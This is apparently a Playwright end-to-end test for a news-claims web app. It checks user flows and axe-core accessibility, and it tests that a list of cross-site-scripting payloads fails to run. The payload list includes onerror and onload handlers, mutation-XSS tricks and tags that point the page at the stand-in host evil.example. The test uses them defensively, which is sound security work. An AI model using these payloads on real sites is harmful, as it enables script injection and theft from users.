"""Goes through the pages of a running `dragoman serve` as people do, in Chromium, and checks every page with axe-core.

Usage: flows.py ADDRESS ARTICLE. Prints a line for each step; ends with 1 at the first that fails.
The ledger must hold the four articles on the Sobol; ARTICLE is a file with a text that is not in it yet.
"""

import re
import sys
from importlib.resources import files
from urllib.parse import quote, urlsplit

from playwright.sync_api import expect, sync_playwright

ADDRESS, ARTICLE = sys.argv[1].rstrip("/"), sys.argv[2]
AXE = (files("axe_playwright_python") / "axe.min.js").read_text()
# What WCAG 2.2 asks for at levels A and AA.
TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]

strangers, complaints, steps = [], [], 0


def step(text):
    global steps
    steps += 1
    print(f"{steps:2} {text}", flush=True)


def watch(page):
    """Remembers requests to other hosts and what the console complains of."""
    page.on("request", lambda request: request.url.startswith(("http", "ws")) and urlsplit(request.url).netloc != urlsplit(ADDRESS).netloc
            and strangers.append(request.url))
    page.on("console", lambda message: message.type in ("error", "warning") and complaints.append(f"{page.url}: {message.text}"))
    page.on("pageerror", lambda error: complaints.append(f"{page.url}: {error}"))


def go(page, path):
    answer = page.goto(ADDRESS + path)
    assert answer.status == 200, f"{path}: {answer.status}"


def press(page, key):
    """Presses a key on a page whose script has run."""
    page.wait_for_load_state("load")
    page.keyboard.press(key)


def accessible(page, path, rules=None):
    """No finding of axe-core, and headings that do not leave a level out.

    `rules` names the rules that are asked; else all of WCAG 2.2 at levels A and AA and of good practice.
    """
    if page.url != ADDRESS + path:
        go(page, path)
    # The rules of Chromium's debugger are not those of the page: what it evaluates is not held to the page's policy.
    page.evaluate(AXE)
    found = page.evaluate("only => axe.run({ runOnly: only, resultTypes: ['violations'] })", rules or TAGS)["violations"]
    lines = [f"{one['id']}: {node['html'][:160]} {node['failureSummary'][:200]}" for one in found for node in one["nodes"][:3]]
    assert not lines, f"{path}\n  " + "\n  ".join(lines)
    levels = [int(level) for level in page.eval_on_selector_all("h1,h2,h3,h4", "all => all.map(one => one.tagName[1])")]
    assert levels.count(1) == 1 and all(b - a <= 1 for a, b in zip(levels, levels[1:])), f"{path}: headings {levels}"


def fits(page, path):
    """Nothing is wider than the window."""
    go(page, path)
    wide = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    assert wide <= 0, f"{path} is {wide} pixels wider than {page.viewport_size['width']}"


def flows(page):
    step("paste an article")
    go(page, "/")
    page.get_by_role("link", name="Add", exact=True).click()
    text = open(ARTICLE, encoding="utf-8").read()
    page.get_by_label("The article: its title").fill(text)
    page.get_by_role("button", name="Add the article").click()
    expect(page.get_by_text("Done.", exact=True)).to_be_visible(timeout=60_000)
    expect(page.locator("[data-outcome=added]")).to_have_count(1)

    step("read it")
    page.locator("[data-outcome=added] a").click()
    expect(page.locator("article.text h1")).to_have_text(text.split("\n\n")[1].strip())
    assert page.locator("mark").count() > 0, "no claim is marked"

    step("get a summary, and follow a sentence to its words")
    page.get_by_role("link", name="Three").click()
    sentence = page.locator("#summary ol a").last
    words = sentence.inner_text()
    sentence.click()
    chosen = page.locator(".chosen:target")
    expect(chosen).to_be_in_viewport()
    assert chosen.inner_text()[-20:] == words[-20:], f"{chosen.inner_text()} is not {words}"

    step("go from a claim to its deal, and back to its words")
    go(page, "/deals?party=GAZ")
    page.locator("table.deals a").first.click()
    quote = page.locator(".claim blockquote a").first
    said = quote.inner_text().strip("“”")
    quote.click()
    expect(page.locator("mark:has(:target)")).to_be_in_viewport()
    assert page.locator("mark:has(:target)").inner_text() in said or said in page.locator("mark:has(:target)").inner_text()
    page.locator(".note a", has_text="the deal").first.click()
    expect(page.locator("h1.statement")).to_be_visible()

    step("see a disagreement, both sides beside each other")
    go(page, "/disagreements")
    page.locator("section[data-row] h2 a").first.click()
    pair = page.locator("#disagreements .pair").first
    expect(pair.locator(".side")).to_have_count(2)
    left, right = (pair.locator(".side").nth(number).bounding_box() for number in (0, 1))
    assert left["y"] == right["y"] and right["x"] > left["x"], "the sides do not stand beside each other"

    step("judge a merge and undo it")
    go(page, "/deals")
    before = page.locator("table.deals tbody tr").count()
    ids = [row.get_attribute("data-deal") for row in page.locator("table.deals tbody tr").all()[:2]]
    go(page, f"/deals/{ids[0]}")
    page.get_by_label("Id of a deal that is the same").fill(ids[1])
    page.get_by_role("button", name="Merge").click()
    expect(page.locator("#judgments")).to_contain_text("merge")
    go(page, "/deals")
    assert page.locator("table.deals tbody tr").count() == before - 1, "the deals are not one"
    go(page, "/judgments")
    page.get_by_role("button", name="Undo").first.click()
    go(page, "/deals")
    assert page.locator("table.deals tbody tr").count() == before, "the merge is not undone"

    step("answer a question by keyboard, and take the answer back")
    go(page, "/judge")
    if page.locator(".question").count():
        head = page.locator(".question").inner_text()
        press(page, "s")
        expect(page.locator(".done")).to_contain_text("Done")
        press(page, "u")
        expect(page.locator(".done")).to_contain_text("Taken back")
        assert page.locator(".question").inner_text() == head, "the question does not come back"
    else:
        raise AssertionError("nothing is in doubt in this ledger")

    step("search in Cyrillic for a name in Latin letters")
    go(page, "/")
    press(page, "/")
    page.keyboard.type("Соболь")
    press(page, "Enter")
    expect(page.locator("#names")).to_contain_text("Sobol")
    page.locator("#names a").first.click()
    expect(page.locator("h1")).to_contain_text("Sobol")

    step("next and previous by key")
    go(page, "/articles")
    press(page, "j")
    press(page, "j")
    press(page, "k")
    assert page.locator("[data-current]").count() == 1
    assert page.locator("[data-row]").first.get_attribute("data-current") is not None
    go(page, "/stories")
    press(page, "j")
    press(page, "o")
    expect(page).to_have_url(re.compile(r"/stories/\w+"))
    page.locator("ol.articles a").first.click()
    expect(page).to_have_url(re.compile(r"/articles/\w+"))
    first = page.url
    press(page, "n")
    expect(page).not_to_have_url(first)
    second = page.url
    press(page, "p")
    expect(page).not_to_have_url(second)
    third = page.url
    press(page, "?")
    expect(page).to_have_url(re.compile(r"/keys$"))
    press(page, "[")
    expect(page).to_have_url(third)

    step("export CSV")
    go(page, "/deals?party=GAZ")
    link = page.locator("footer a", has_text="CSV").get_attribute("href")
    csv = page.request.get(ADDRESS + link)
    assert csv.headers["content-type"].startswith("text/csv") and len(csv.text().splitlines()) > 1

    step("changes come to open pages")
    go(page, "/deals")
    page.wait_for_timeout(300)
    token = page.request.get(ADDRESS + "/api").text().split("Bearer ")[1].split("&")[0]
    fields = {"act": "confirm", "deal": ids[0]}
    answer = page.request.post(ADDRESS + "/judgments.json", headers={"Authorization": "Bearer " + token}, form=fields)
    assert answer.status == 200, answer.text()
    expect(page.locator("#news")).to_contain_text("changed", timeout=10_000)


# What published lists of attacks on pages are made of: ways out of where a text stands, and what would run there.
OPENINGS = ["", '"', "'", '">', "'>", "</title>", "</textarea>", "-->", "</script>", "</style>", "&lt;", "%3C"]
ATTACKS = [
    "<script>boom()</script>", "<img src=x onerror=boom()>", "<svg/onload=boom()>", '<iframe srcdoc="<script>boom()</script>">',
    '<a href="javascript:boom()">x</a>', " onmouseover=boom() autofocus onfocus=boom() x=", "<details open ontoggle=boom()>",
    "<math><mtext></p><style><img src=x onerror=boom()>", "<style>@import'//evil.example'</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input autofocus onfocus=boom()>",
    '<object data="data:text/html,x">', "<video src=x onerror=boom()>", "<ScRiPt >boom()</sCrIpT>", "<body onload=boom()>",
    "<<script>boom()//<</script>", '<noscript><p title="</noscript><img src=x onerror=boom()>">', "<svg><animate onbegin=boom() attributeName=x>",
]


def attacks(page, token):
    """Texts that would run as script in a page that lets them: as title, outlet and paragraphs, as what is searched, as addresses."""
    page.add_init_script("window.boom = function () { window.boomed = true; };")
    payloads = [opening + attack for opening in OPENINGS for attack in ATTACKS]
    step(f"{len(payloads)} texts that would like to run as script do not")
    text = payloads[0] + " signed\n\n" + "\n\n".join(payload + " Iran signed." for payload in payloads)
    answer = page.request.post(ADDRESS + "/add.json", headers={"Authorization": "Bearer " + token},
                               form={"text": text, "outlet": payloads[3], "published": "2024-05-16"})
    job = f"/add/{answer.json()['job']}"
    go(page, job)
    expect(page.get_by_text("Done.", exact=True)).to_be_visible(timeout=90_000)
    article = page.locator("[data-outcome=added] a").get_attribute("href")
    views = [job, article + "?summary=5", "/", "/articles", "/outlets", "/deals", "/names", "/search?q=script", "/judge"]
    for path in views:
        go(page, path)
        assert not page.evaluate("window.boomed"), path
    for number, payload in enumerate(payloads[::6]):
        path = ["/search?q={}", "/deals?party={}", "/outlets/{}", "/{}"][number % 4].format(quote(payload, safe=""))
        page.goto(ADDRESS + path)
        assert not page.evaluate("window.boomed"), path
    complaints[:] = [line for line in complaints if "status of 4" not in line]


def pages(page):
    """An address of every page."""
    go(page, "/deals")
    deal = page.locator("table.deals a").first.get_attribute("href")
    go(page, "/stories")
    story = page.locator("table.list a").first.get_attribute("href")
    go(page, "/names")
    name = page.locator("table.list a").first.get_attribute("href")
    go(page, "/outlets")
    outlet = page.locator("table.list a").first.get_attribute("href")
    go(page, "/articles")
    article = page.locator("ul.articles a").first.get_attribute("href")
    fixed = ["/", "/deals", "/deals?view=board", "/articles", "/stories", "/names", "/outlets", "/search", "/search?q=sobol",
             "/disagreements", "/timeline", "/network", "/flows", "/judge", "/judgments", "/add", "/add/1", "/sources", "/packs", "/health", "/api", "/keys"]
    return fixed + [deal, article + "?summary=3", story, name, outlet]


def main():
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        page = browser.new_context(viewport={"width": 1280, "height": 900}).new_page()
        page.set_default_timeout(15_000)
        watch(page)
        flows(page)
        addresses = pages(page)
        attacked = browser.new_page()
        attacked.set_default_timeout(15_000)
        watch(attacked)
        step(f"{len(addresses)} pages have no finding of axe-core, light")
        for path in addresses:
            accessible(page, path)
        dark = browser.new_context(viewport={"width": 390, "height": 844}, color_scheme="dark").new_page()
        watch(dark)
        step("nor dark, on a phone, where nothing is wider than the window")
        for path in addresses:
            fits(dark, path)
            accessible(dark, path, {"type": "rule", "values": ["color-contrast", "target-size"]})
        paper = dark.evaluate("getComputedStyle(document.body).backgroundColor")
        assert max(int(part) for part in re.findall(r"\d+", paper)[:3]) < 64, f"dark paper is {paper}"
        plain = browser.new_context(java_script_enabled=False).new_page()
        watch(plain)
        step("all can be read without JavaScript")
        for path in addresses:
            go(plain, path)
            assert plain.locator("h1").count() == 1, path
        token = plain.request.get(ADDRESS + "/api").text().split("Bearer ")[1].split("&")[0]
        attacks(attacked, token)
        browser.close()
    step("no request went to another host, and the console is quiet")
    assert not strangers, strangers
    assert not complaints, complaints


try:
    main()
except Exception as error:  # A failed step is told in words, not as a trace of Playwright's insides.
    print("FAILED: " + "\n".join(str(error).splitlines()[:12]), flush=True)
    sys.exit(1)
